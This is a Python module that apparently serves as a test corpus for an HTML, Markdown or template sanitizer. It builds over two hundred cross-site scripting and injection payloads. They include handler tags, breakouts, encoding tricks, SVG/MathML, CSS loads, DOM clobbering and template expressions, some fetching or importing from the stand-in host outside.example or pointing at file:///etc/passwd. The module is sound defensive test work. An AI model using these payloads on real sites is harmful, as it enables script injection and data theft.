"""More than two hundred texts that try to run script, load something from outside, or break out of their place.

Each sets `window.hit` or asks outside.example for something if it gets through. Kinds follow the cheat sheets of
OWASP and PortSwigger: tags and handlers, broken quoting, odd encodings, SVG and MathML, CSS, Markdown, templates.
"""

from __future__ import annotations

from itertools import product
from typing import Final

_OUT = "http://outside.example/x"

_HANDLERS = [
    f"<{tag} {handler}=window.hit=1>"
    for tag, handler in [
        ("img src=x", "onerror"),
        ("svg", "onload"),
        ("body", "onload"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("marquee", "onstart"),
        ("object data=x", "onerror"),
        ("iframe src=x", "onload"),
        ("button popovertarget=x popover id=x", "onbeforetoggle"),
        ("div style=animation-name:x", "onanimationstart"),
        ("div tabindex=1", "onfocusin"),
        ("p", "onpointerenter"),
        ("link rel=stylesheet href=x", "onerror"),
        ("script src=x", "onerror"),
        ("style", "onload"),
        ("image src=x", "onerror"),
        ("isindex type=image src=x", "onerror"),
        ("xss contenteditable autofocus", "onfocus"),
    ]
]
_BREAKOUTS = [
    before + inside
    for before, inside in product(
        ('">', "'>", '" ', "' ", "`>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "&quot;>"),
        ("<img src=x onerror=window.hit=1>", "onmouseover=window.hit=1 x=", "autofocus onfocus=window.hit=1 x="),
    )
]
_SCRIPTS = [
    f"<script{space}>{body}</script{end}>"
    for space, end in [("", ""), (" ", " "), ("/x", ""), ("\n", "\t"), (" type=module", "")]
    for body in ("window.hit=1", f"fetch('{_OUT}')", f"import('{_OUT}.js')")
]
_CASES = [
    "<ScRiPt>window.hit=1</sCrIpT>",
    "<IMG SRC=x OnErRoR=window.hit=1>",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "<<script>window.hit=1//<</script>",
    "<img src=x onerror\x0b=window.hit=1>",
    "<img/src=x/onerror=window.hit=1>",
    "<img src='x'onerror='window.hit=1'>",
    "<img src=`x`onerror=window.hit=1>",
    '<a href="jav&#x09;ascript:window.hit=1">x</a>',
    "&lt;img src=x onerror=window.hit=1&gt;",
    "&#60;script&#62;window.hit=1&#60;/script&#62;",
    "&amp;lt;script&amp;gt;window.hit=1&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
    "＜script＞window.hit=1＜/script＞",
    "‹img src=x onerror=window.hit=1›",
    "<\u200bscript>window.hit=1</script>",
    "\u202e<script>window.hit=1</script>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<template><img src=x onerror=window.hit=1></template>",
    "<plaintext>",
    "<!--><img src=x onerror=window.hit=1>-->",
    "<![CDATA[<img src=x onerror=window.hit=1>]]>",
    "<?xml version='1.0'?><x onload=window.hit=1>",
    "<base href='http://outside.example/'>",
    f"<meta http-equiv=refresh content='0;url={_OUT}'>",
    f"<form action='{_OUT}'><button autofocus>Go</button></form>",
    f"<isindex action='{_OUT}'>",
    f"<table background='{_OUT}'>",
    f"<body background='{_OUT}'>",
    f"<bgsound src='{_OUT}'>",
    f"<embed src='{_OUT}'>",
    f"<object data='{_OUT}'></object>",
    f"<applet code='{_OUT}'></applet>",
    f"<frameset><frame src='{_OUT}'></frameset>",
    f"<source srcset='{_OUT}'>",
    f"<img srcset='{_OUT} 2x'>",
    f"<picture><source srcset='{_OUT}'><img></picture>",
    f"<video poster='{_OUT}'></video>",
    f"<track src='{_OUT}'>",
    f"<link rel=prefetch href='{_OUT}'>",
    "<link rel=dns-prefetch href='//outside.example'>",
    f"<link rel=stylesheet href='{_OUT}.css'>",
    f"<style>@import '{_OUT}.css';</style>",
    f"<style>body{{background:url({_OUT})}}</style>",
    f"<div style='background:url({_OUT})'>x</div>",
    f"<div style='list-style-image:url({_OUT})'>x</div>",
    f"<p style=\"font-family:'x';src:url({_OUT})\">x</p>",
    f"<svg><image href='{_OUT}'/></svg>",
    f"<svg><use href='{_OUT}#x'/></svg>",
    f"<svg><feImage href='{_OUT}'/></svg>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<svg><a href='javascript:window.hit=1'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit=1</script>'></foreignObject></svg>",
    "<math href='javascript:window.hit=1'>x</math>",
    "<math><mtext></p><script>window.hit=1</script>",
    "<math><maction actiontype=statusline xlink:href='javascript:window.hit=1'>x",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src='javascript:parent.hit=1'></iframe>",
    "<iframe src='data:text/html,<script>parent.hit=1</script>'></iframe>",
    "<form><input name=parentNode></form>",
    "<a id=vademecumTexts><a id=vademecumTexts name=en>",
    "<input name=getElementById>",
]
_LINKS = [
    f"{before}{scheme}{after}"
    for before, after in (("[x](", ")"), ("<a href='", "'>x</a>"), ("![x](", ")"))
    for scheme in (
        "javascript:window.hit=1",
        "JaVaScRiPt:window.hit=1",
        "\x01javascript:window.hit=1",
        "java\nscript:window.hit=1",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
        "vbscript:msgbox(1)",
        f"{_OUT}.png",
        "//outside.example/x.png",
        "\\\\outside.example\\x",
        "file:///etc/passwd",
    )
]
_MARKDOWN = [
    f"![x][1]\n\n[1]: {_OUT}.png",
    f"[x]: {_OUT} 'window.hit=1'",
    f"<{_OUT}>",
    _OUT,
    "[x](<javascript:window.hit=1>)",
    '![x"onerror="window.hit=1](x)',
    '![x](x"onerror="window.hit=1)',
    "```html\n<img src=x onerror=window.hit=1>\n```",
    "`<img src=x onerror=window.hit=1>`",
    "~~~\n<script>window.hit=1</script>\n~~~",
    "# <img src=x onerror=window.hit=1>",
    "| <img src=x onerror=window.hit=1> |\n|---|\n",
    "- [ ] <img src=x onerror=window.hit=1>",
    "```mermaid\ngraph TD; A[<img src=x onerror=window.hit=1>]\n```",
    "$$\\href{javascript:window.hit=1}{x}$$",
    "$\\url{javascript:window.hit=1}$",
    f"\\(\\includegraphics{{{_OUT}.png}}\\)",
    "$$\\htmlData{x=1}{<img src=x onerror=window.hit=1>}$$",
    "\\[ \\unicode{<img src=x onerror=window.hit=1>} \\]",
    ":::html\n<img src=x onerror=window.hit=1>\n:::",
    "<details><summary>x</summary><img src=x onerror=window.hit=1></details>",
    "[1](x){onclick=window.hit=1}",
]
_TEMPLATES = [
    "{{constructor.constructor('window.hit=1')()}}",
    "{{7*7}}{{$on.constructor('window.hit=1')()}}",
    "${window.hit=1}",
    "`${window.hit=1}`",
    "<%= window.hit=1 %>",
    "#{window.hit=1}",
    "{% raw %}<script>window.hit=1</script>{% endraw %}",
    "{@html '<img src=x onerror=window.hit=1>'}",
    "{#if window.hit=1}x{/if}",
    "[[window.hit=1]]",
    "*{window.hit=1}",
    "@(window.hit=1)",
    "${{window.hit=1}}",
    "{{=window.hit=1}}",
    "<x v-html=\"'<img src=x onerror=window.hit=1>'\">",
    "<x ng-app ng-csp ng-click=window.hit=1>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+window.hit=1//'>",
    "';window.hit=1//",
    '";window.hit=1//',
    "\\';window.hit=1//",
    "</script><script>window.hit=1</script>",
    "\u2028window.hit=1//",
    "\x00<script>window.hit=1</script>",
    "\ud7ff<script>window.hit=1</script>",
]
PAYLOADS: Final[tuple[str, ...]] = tuple(
    dict.fromkeys(_HANDLERS + _BREAKOUTS + _SCRIPTS + _CASES + _LINKS + _MARKDOWN + _TEMPLATES)
)
